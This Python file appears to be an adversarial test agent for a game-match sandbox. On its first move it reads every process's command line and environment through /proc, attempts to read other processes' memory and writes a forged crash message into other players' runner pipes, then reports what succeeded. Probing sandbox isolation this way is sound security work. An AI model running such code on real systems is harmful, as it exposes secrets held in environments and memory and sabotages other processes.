"""Hunts the match process and the other seats through /proc: reads every visible process's
cmdline and environ, reads /proc/PPID/mem and every other process's memory, and writes a forged
fault line into every pipe of another seat's runner (``_runner.py``) it finds under /proc/*/fd.
(Only runners: unsandboxed, as root, it must not write into every pipe of the machine.)  Prints a ``REPORT``
line (JSON) of what worked, then keeps playing legally."""
import json
import os
from typing import Any

FORGED = b'{"f":"crash","r":"forged by proc_snoop","s":"act","t":""}\n'
done: dict[str, bool] = {}


def _read(path: str, n: int = 1 << 16) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(n)
    except OSError:
        return None


def _mem(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/maps") as maps:
            start = int(maps.readline().split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as f:
            f.seek(start)
            return len(f.read(64)) > 0
    except (OSError, ValueError):
        return False


def probe() -> dict[str, Any]:
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    own = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            own.add(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    report: dict[str, Any] = {"pids": pids, "ppid": os.getppid(), "cmdlines": [], "environ": [],
                              "mem": [], "forged": []}
    for pid in pids:
        cmd = _read(f"/proc/{pid}/cmdline")
        report["cmdlines"].append(None if cmd is None else cmd.replace(b"\0", b" ").decode("utf-8", "ignore"))
        env = _read(f"/proc/{pid}/environ")
        if env:
            report["environ"].append(env.decode("utf-8", "replace"))
        if pid != me and _mem(pid):
            report["mem"].append(pid)
    if os.getppid() > 0 and _mem(os.getppid()):
        report["mem"].append(f"ppid {os.getppid()}")
    for pid, cmd in zip(pids, report["cmdlines"], strict=True):
        if pid == me or not cmd or "_runner.py" not in cmd:
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                target = os.readlink(path)
            except OSError:
                continue
            if not target.startswith("pipe:") or target in own:
                continue
            try:
                w = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(w, FORGED)
                os.close(w)
                report["forged"].append(path)
            except OSError:
                pass
    return report


def act(observation: dict[str, Any]) -> str:
    if not done:
        done["x"] = True
        print("REPORT " + json.dumps(probe()), flush=True)
    return str(observation["legal_actions"][0])
